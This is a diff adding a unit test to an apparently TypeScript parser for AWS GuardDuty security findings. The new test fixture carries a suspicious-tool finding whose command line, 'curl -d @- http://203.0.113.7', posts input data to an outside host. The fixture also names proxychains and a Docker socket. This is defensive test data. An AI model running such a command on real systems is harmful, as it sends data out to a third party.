@@ -101,6 +101,12 @@ describe('guardduty', () => {
     expect(parsed.ok && parsed.value.findings).toMatchObject([{ issue_type: 'Tomorrow:EC2/Thing', issue_mapped: false, kind: 'detection' }]);
   });
 
+  it('keeps what a process was seen to do', () => {
+    const context = { commandLineExample: 'curl -d @- http://203.0.113.7', socketPath: '/var/run/docker.sock', toolName: 'proxychains', threatFilePath: '/tmp/x', addressFamily: 'AF_UNIX' };
+    const parsed = guardduty.parse({ id: 'a', type: 'Execution:Runtime/SuspiciousTool', accountId: account, region, resource: { resourceType: 'Container', containerDetails: { name: null, image: 'shop/api:2' }, instanceDetails: { instanceId: 'i-0a1b2c3d4e5f60719' } }, service: { runtimeDetails: { process: { executablePath: '/usr/bin/curl' }, context } } }, at);
+    expect(parsed.ok && parsed.value.findings?.[0]?.evidence).toEqual(['command: curl -d @- http://203.0.113.7', 'tool: proxychains', 'socket: /var/run/docker.sock', 'threat file: /tmp/x', 'image: shop/api:2']);
+  });
+
   it('takes the account for what the switch of the account is about, and says which way a connection went', () => {
     const off = guardduty.parse({ id: 'a', type: 'Policy:S3/AccountBlockPublicAccessDisabled', accountId: account, region, resource: { resourceType: 'AccessKey', accessKeyDetails: { accessKeyId: 'AKIAIOSFODNN7EXAMPLE', userName: 'alice', userType: 'IAMUser' } } }, at);
     expect(off.ok && off.value.findings).toMatchObject([{ entity: `arn:aws:iam::${account}:root`, entity_type: 'account', issue_type: 'public_access', observables: { user: 'alice' } }]);
